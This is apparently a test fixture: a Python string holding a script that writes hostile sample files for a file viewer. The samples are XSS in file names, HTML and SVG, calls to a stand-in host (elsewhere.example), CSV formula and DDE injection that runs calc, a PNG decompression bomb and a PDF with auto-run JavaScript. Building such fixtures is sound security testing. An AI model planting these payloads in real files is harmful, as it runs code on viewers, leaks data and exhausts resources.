"""A script whose output means harm to whoever looks at it."""

HARMFUL = r'''
import struct, zlib
from pathlib import Path

OUT = Path("/output")
ELSEWHERE = "http://elsewhere.example/"


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width, height, pixels):
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(pixels)) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + parts


def pdf(pages):
    """With a script that runs when it is opened, and a link over the whole of each page."""
    script = f"app.alert('pdf'); this.submitForm('{ELSEWHERE}pdf'); this.getURL('{ELSEWHERE}js');"
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS <{script.encode().hex()}> >> >>",
        f"<< /Type /Pages /Count {len(pages)} /Kids [{' '.join(f'{4 + 2 * at} 0 R' for at in range(len(pages)))}] >>",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    link = f"<< /Type /Annot /Subtype /Link /Rect [0 0 400 200] /A << /S /URI /URI ({ELSEWHERE}link) >> >>"
    for at, text in enumerate(pages):
        shown = f"BT /F1 24 Tf 40 100 Td ({text}) Tj ET"
        objects.append(
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 200] /Contents {5 + 2 * at} 0 R /Annots [{link}] "
            "/Resources << /Font << /F1 3 0 R >> >> >>"
        )
        objects.append(f"<< /Length {len(shown)} >>\nstream\n{shown}\nendstream")
    written, places = b"%PDF-1.7\n", []
    for number, each in enumerate(objects, 1):
        places.append(len(written))
        written += f"{number} 0 obj\n{each}\nendobj\n".encode()
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    many = len(objects) + 1
    end = f"xref\n0 {many}\n0000000000 65535 f \n{table}trailer << /Size {many} /Root 1 0 R >>\n"
    return written + end.encode() + f"startxref\n{len(written)}\n%%EOF\n".encode()


(OUT / "<img src=x onerror=alert(1)>").mkdir()
(OUT / "<img src=x onerror=alert(1)>" / "note.txt").write_text("turned \u202e around \x1b[31mred")
(OUT / "page.html").write_text(
    f"<!doctype html><script>parent.alert(1); new Image().src = '{ELSEWHERE}html'</script><h1>Hello</h1>"
)
(OUT / "drawing.svg").write_text(f"""
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 100" onload="alert('svg')">
  <script>alert("svg"); fetch("{ELSEWHERE}svg")</script>
  <style>@import url({ELSEWHERE}style); rect {{ fill: steelblue }}</style>
  <rect width="200" height="100"/>
  <image href="{ELSEWHERE}image.png" width="50" height="50"/>
  <use href="{ELSEWHERE}use.svg#x"/>
  <foreignObject width="100" height="50">
    <body xmlns="http://www.w3.org/1999/xhtml"><iframe src="{ELSEWHERE}frame"/><script>alert(2)</script></body>
  </foreignObject>
</svg>
""")
(OUT / "formulas.csv").write_text(
    f'name,value\n"=HYPERLINK(""{ELSEWHERE}"")",1\n+cmd|\' /C calc\'!A0,2\n@SUM(1),<img src=x onerror=alert(3)>\n'
)
(OUT / "large.csv").write_text("number,square\n" + "".join(f"{n},{n * n}\n" for n in range(100_000)))
(OUT / "chart.png").write_bytes(png(60, 40, (b"\x00" + b"\x20\x60\xa0" * 60) * 40))
(OUT / "bomb.png").write_bytes(png(50_000, 50_000, bytes(1000)))
(OUT / "report.pdf").write_bytes(pdf(["The first page", "The second page"]))
(OUT / "broken.pdf").write_bytes(b"%PDF-1.7\nnothing")
(OUT / "data.bin").write_bytes(bytes(range(256)))
'''
